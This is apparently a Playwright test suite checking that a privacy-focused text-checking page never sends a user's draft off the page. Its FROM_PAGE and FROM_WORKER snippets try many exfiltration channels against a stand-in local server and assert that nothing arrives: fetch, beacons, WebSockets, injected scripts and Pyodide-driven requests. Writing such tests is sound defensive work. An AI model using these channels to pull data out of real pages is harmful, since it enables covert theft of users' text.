"""Nothing of a draft leaves the page: no request while checking, and none that could carry it elsewhere when code tries.

A second server on this machine stands for somebody else's. The page, the worker and Python in it try to reach it in every
way there is; its log must stay empty.
"""

import http.server
import threading
from collections.abc import Iterator

import pytest
from checkpage import FLAGGED, PATIENT, CheckPage, changed
from playwright.sync_api import Page, expect

# Each sends to the address in `elsewhere`; all may fail in their own way.
FROM_PAGE = """
async (elsewhere) => {
    const attempts = {
        fetch: () => fetch(elsewhere + "fetch?draft", { mode: "no-cors" }),
        post: () => fetch(elsewhere + "post", { method: "POST", body: "draft", mode: "no-cors", keepalive: true }),
        xhr: () => { const request = new XMLHttpRequest(); request.open("GET", elsewhere + "xhr"); request.send() },
        beacon: () => navigator.sendBeacon(elsewhere + "beacon", "draft"),
        socket: () => new WebSocket(elsewhere.replace("http", "ws") + "socket"),
        events: () => new EventSource(elsewhere + "events"),
        image: () => { new Image().src = elsewhere + "image?draft" },
        script: () => document.head.append(Object.assign(document.createElement("script"), { src: elsewhere + "script" })),
        style: () => document.head.append(Object.assign(document.createElement("link"), { rel: "stylesheet", href: elsewhere + "style" })),
        frame: () => document.body.append(Object.assign(document.createElement("iframe"), { src: elsewhere + "frame" })),
        module: () => import(elsewhere + "module"),
        font: () => new FontFace("f", `url(${elsewhere}font)`).load(),
        prefetch: () => document.head.append(Object.assign(document.createElement("link"), { rel: "prefetch", href: elsewhere + "prefetch?draft" })),
        preload: () => document.head.append(Object.assign(document.createElement("link"), { rel: "preload", as: "fetch", href: elsewhere + "preload" })),
        manifest: () => document.head.append(Object.assign(document.createElement("link"), { rel: "manifest", href: elsewhere + "manifest" })),
        object: () => document.body.append(Object.assign(document.createElement("object"), { data: elsewhere + "object" })),
        ping: () => { const link = Object.assign(document.createElement("a"), { href: "#draft", ping: elsewhere + "ping" }); document.body.append(link); link.click() },
        background: () => { document.body.style.backgroundImage = `url(${elsewhere}background)` },
        media: () => { new Audio(elsewhere + "media").load() },
        form: () => {
            const form = Object.assign(document.createElement("form"), { action: elsewhere + "form", target: "_blank" })
            document.body.append(form)
            form.submit()
        },
        worker: () => new Worker(URL.createObjectURL(new Blob([`fetch("${elsewhere}worker", { mode: "no-cors" })`]))),
    }
    for (const attempt of Object.values(attempts)) {
        try { Promise.resolve(attempt()).catch(() => {}) } catch {}
    }
    return Object.keys(attempts).length
}
"""

# In place of a check. First with what the worker has left to it, then with the network given back: the policy alone must do.
FROM_WORKER = """check: (request) => {
    const elsewhere = "%(elsewhere)s"
    const tries = {
        fetch: () => fetch(elsewhere + "worker-fetch"),
        given: () => self.given(elsewhere + "worker-given", { mode: "no-cors" }),
        module: () => import(elsewhere + "worker-module"),
        python: () => pyodide.runPython(`
import js
for reach in (
    lambda: js.fetch("${elsewhere}python-fetch"),
    lambda: js.XMLHttpRequest.new().open("GET", "${elsewhere}python-xhr"),
    lambda: js.WebSocket.new("${elsewhere}".replace("http", "ws") + "python-socket"),
    lambda: js.importScripts("${elsewhere}python-script"),
    lambda: js.eval("import('${elsewhere}python-module')"),
    lambda: js.Worker.new("${elsewhere}python-worker"),
):
    try:
        reach()
    except Exception:
        pass
`),
        socket: () => pyodide.runPython(`
import socket
try:
    socket.socket().connect(("127.0.0.1", int("${elsewhere}".split(":")[2].strip("/"))))
except OSError:
    pass
`),
    }
    const done = []
    for (const [name, attempt] of Object.entries(tries)) {
        try { Promise.resolve(attempt()).catch(() => {}); done.push(name) } catch (error) { done.push(name + " " + error.name) }
    }
    console.log("tried " + done.join(", "))
    return web.check_json(request)
},"""


@pytest.fixture
def elsewhere() -> Iterator[tuple[str, list[str]]]:
    """Somebody else's server: its address, and what it was asked for."""
    log = []

    class Recorder(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            log.append(self.path)
            self.send_response(200)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.send_header("Content-Length", "0")
            self.end_headers()

        do_POST = do_OPTIONS = do_GET

        def log_message(self, *_):
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Recorder)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_address[1]}/", log
    server.shutdown()
    server.server_close()


@pytest.fixture
def checking(page: Page, site_url: str) -> CheckPage:
    return CheckPage(page, site_url)


def test_somebody_else_s_server_would_hear_it(page: Page, elsewhere):
    """That its log stays empty means something only if a page without a policy fills it."""
    address, log = elsewhere
    page.goto(f"{address}start")
    page.set_content("<title>A page without a policy</title>")
    page.evaluate(FROM_PAGE, address)
    page.wait_for_timeout(1500)
    heard = {path.split("?")[0] for path in log}
    assert heard >= {"/fetch", "/post", "/xhr", "/beacon", "/socket", "/events", "/image", "/script", "/style", "/frame", "/worker"}


def test_the_page_cannot_send_a_draft(checking, elsewhere):
    address, log = elsewhere
    checking.ready().draft.fill(FLAGGED)
    assert checking.page.evaluate(FROM_PAGE, address) > 10
    checking.page.wait_for_timeout(1500)
    assert log == []


def test_the_worker_and_python_cannot_send_a_draft(checking, elsewhere):
    address, log = elsewhere
    # The network is given to the attempt, so that nothing but the policy stands between.
    loop = "for (const name of DOORS)"
    changed(checking.page, "worker.mjs", loop, f"self.given = self.fetch.bind(self)\n{loop}", "check: web.check_json,", FROM_WORKER % {"elsewhere": address})
    with checking.page.expect_console_message(lambda message: message.text.startswith("tried "), timeout=PATIENT) as tried:
        checking.ready().check(FLAGGED)
    checking.page.wait_for_timeout(1500)
    # The last has no module left for it.
    assert tried.value.text == "tried fetch TypeError, given, module, python, socket PythonError"
    assert log == []


def test_the_worker_has_no_way_out_left(checking):
    """The belt to the policy's trousers: what could reach the network or keep something is gone when Python runs."""
    changed(
        checking.page, "worker.mjs", "check: web.check_json,",
        "check: (request) => { console.log(`left: ${DOORS.filter((name) => self[name] !== undefined)}`); return web.check_json(request) },",
    )  # fmt: skip
    with checking.page.expect_console_message(lambda message: message.text.startswith("left:"), timeout=PATIENT) as left:
        checking.ready().check(FLAGGED)
    assert left.value.text == "left: "


def test_checking_makes_no_request(checking):
    # The snapshot, made beside the checks, takes the runtime's files from the browser's store.
    changed(checking.page, "start.mjs", "const SNAPSHOT_AFTER = 4_000", "const SNAPSHOT_AFTER = 4_000_000")
    checking.ready()
    requests = []
    checking.page.context.on("request", lambda request: requests.append(request.url))
    checking.check(FLAGGED)
    checking.choose("Platform", "x")
    checking.draft.fill(f"{FLAGGED} More.")
    checking.page.wait_for_timeout(1000)
    expect(checking.findings).to_have_count(2)
    assert requests == []


def test_it_works_with_the_plug_pulled(checking):
    """What the page about privacy tells people to try."""
    checking.ready()
    checking.page.context.set_offline(True)
    checking.check(FLAGGED)
    expect(checking.findings).to_have_count(2)


def test_every_request_is_to_the_site(checking, site_url):
    requests = []
    checking.page.context.on("request", lambda request: requests.append((request.url, request.post_data)))
    checking.ready().check(FLAGGED)
    assert len(requests) > 10
    assert not [url for url, _ in requests if not url.startswith((site_url, f"blob:{site_url.removesuffix('guidelines/')}"))]
    assert not [body for _, body in requests if body]


def test_no_console_message_and_no_violation(checking):
    """A run from opening to findings is silent: nothing blocked, nothing missing, nothing logged."""
    messages = []
    # A site that is told no address has no sitemap, and the theme asks for one.
    checking.page.on("console", lambda message: message.location["url"].endswith("/sitemap.xml") or messages.append(message.text))
    checking.page.on("pageerror", lambda error: messages.append(str(error)))
    checking.ready().check(FLAGGED)
    assert [message for message in messages if "blocked by Playwright" not in message] == []


def test_nothing_is_kept(checking):
    checking.ready().check(FLAGGED)
    state = checking.page.context.storage_state(indexed_db=True)
    assert state["cookies"] == []
    assert "SIN" not in str(state)
    assert checking.page.evaluate("Object.keys(sessionStorage).length") == 0
    kept = "caches.keys().then((names) => Promise.all(names.map((name) => caches.open(name).then((one) => one.keys())))).then((all) => all.flat().map((one) => one.url))"
    assert not [url for url in checking.page.evaluate(kept) if "/assets/" not in url]
    # Opened anew, the page is empty: the browser was asked to keep nothing of the form.
    checking.page.reload()
    assert checking.draft.input_value() == ""
